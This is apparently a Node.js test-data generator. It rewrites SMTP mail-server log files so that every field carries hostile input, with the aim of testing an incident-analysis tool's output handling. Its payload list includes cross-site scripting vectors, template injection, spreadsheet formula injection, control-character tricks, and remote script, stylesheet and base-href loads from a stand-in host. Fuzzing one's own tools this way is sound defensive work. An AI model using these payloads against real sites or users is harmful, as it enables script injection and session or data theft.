'use strict';
// Writes a log tree anew with hostile text in every field: node hostile.js FROM TO SEED. What the tool looks for stays as it is (codes
// and words of replies, the receiver's domain, certificates' shape), so that it still finds its incident.
const fs = require('fs');
const path = require('path');

const [from, to, seed] = process.argv.slice(2);
let serial = Number(seed) * 1_000_000;

// Each holds its number between the letters q, so that a page can be searched for it.
const kinds = [
  n => `<script>hostile('q${n}q')</script>`,
  n => `"><img src=x onerror=hostile('q${n}q')>`,
  n => `' onmouseover=hostile('q${n}q') autofocus onfocus=hostile('q${n}q') x='`,
  n => `<svg/onload=hostile('q${n}q')>`,
  n => `</td></tr></table><iframe srcdoc="<script>parent.hostile('q${n}q')</script>">`,
  n => `</title></style></script><script src=http://192.0.2.99/q${n}q.js></script>`,
  n => `<a href=javascript:hostile('q${n}q')>x</a>`,
  n => `&lt;script&gt;hostile(&#39;q${n}q&#39;)&lt;/script&gt;`,
  n => `\u202Eq${n}q\u202C\u200B\u0000\u0001\u001B[31m`,
  n => `<!--q${n}q--!><base href=http://192.0.2.99/>`,
  n => `{{constructor.constructor('hostile(1)')()}}q${n}q`,
  n => `<link rel=stylesheet href=http://192.0.2.99/q${n}q.css><meta http-equiv=refresh content=0;url=http://192.0.2.99/>`,
  n => `<math><mtext><style><img src onerror=hostile('q${n}q')></style></mtext></math>`,
  n => `=HYPERLINK("http://192.0.2.99/q${n}q")`,
];
const hostile = () => kinds[++serial % kinds.length](serial);
// Where a blank, a bracket or a line end would end the value.
const word = () => hostile().replace(/[\s\u0000]/g, '/');
const words = () => word() + word() + word() + word();
const inMailbox = () => `q${++serial}q"><svg/onload=hostile('q${serial}q')`.replace(/[>@]/g, '');

const kept = new Map();
const same = (key, make) => {
  if (!kept.has(key))
    kept.set(key, make());
  return kept.get(key);
};

function split(line) {
  const fields = [''];
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    if (line[i] === '"') {
      if (quoted && line[i + 1] === '"') { fields[fields.length - 1] += '"'; i++; } else quoted = !quoted;
    } else if (line[i] === ',' && !quoted) fields.push('');
    else fields[fields.length - 1] += line[i];
  }
  return fields;
}

const quote = field => (/[",\r\n]/.test(field) ? `"${field.replace(/"/g, '""')}"` : field);

function rewrite(line) {
  if (line.startsWith('#') || line.length === 0)
    return line;
  const fields = split(line);
  let [time, connector, session, number, local, remote, event, data, context] = fields;
  connector = same('connector ' + connector, () => `${connector} ${hostile()}`);
  const id = session;
  session = same('session ' + session, () => session + word());
  local = local && same('local ' + id + local, () => local.replace(/:/, `${word()}:`));
  remote = remote && same('remote ' + id + remote, () => remote + words());
  data = data
    .replace(/(MAIL FROM|RCPT TO):<([^>@]+)@([^>]+)>/, (_, verb, name, domain) => `${verb}:<${same('box ' + name, inMailbox)}@${domain}>`)
    .replace(/\b([A-Z0-9]+)(\.mail\.protection\.outlook\.com)/g, (_, host, rest) => same('host ' + id + host, () => host + words()) + rest)
    .replace(/(CN=)/g, (_, cn) => `${cn}${same('cn ' + data, hostile)} `)
    .replace(/(Relay Access Denied|Recipient OK|Sender OK)/, said => `${said} ${hostile()}`);
  if (/^EHLO /.test(data))
    data = `EHLO ${same('helo ' + id, word)}`;
  context = context
    .replace(/InternetMessageId <[^>]*>/, () => `InternetMessageId <${inMailbox()}@contoso.com>`);
  if (serial % 50 === 0)
    data += hostile() + 'x'.repeat(20_000);
  return [time, connector, session, number, local, remote, event, data, context].map(quote).join(',');
}

for (const file of fs.readdirSync(from, { recursive: true }).filter(name => name.toUpperCase().endsWith('.LOG'))) {
  const [server, ...rest] = file.split(path.sep);
  // A folder's name may hold all but a slash.
  const folder = same('server ' + server, () => `${server}${word()}`.replace(/[/\\:*?"|\u0000-\u001F]/g, '_').slice(0, 120));
  const target = path.join(to, folder, ...rest);
  fs.mkdirSync(path.dirname(target), { recursive: true });
  fs.writeFileSync(target, fs.readFileSync(path.join(from, file), 'utf8').split(/\r?\n/).map(rewrite).join('\r\n'));
}
console.log(serial - Number(seed) * 1_000_000);
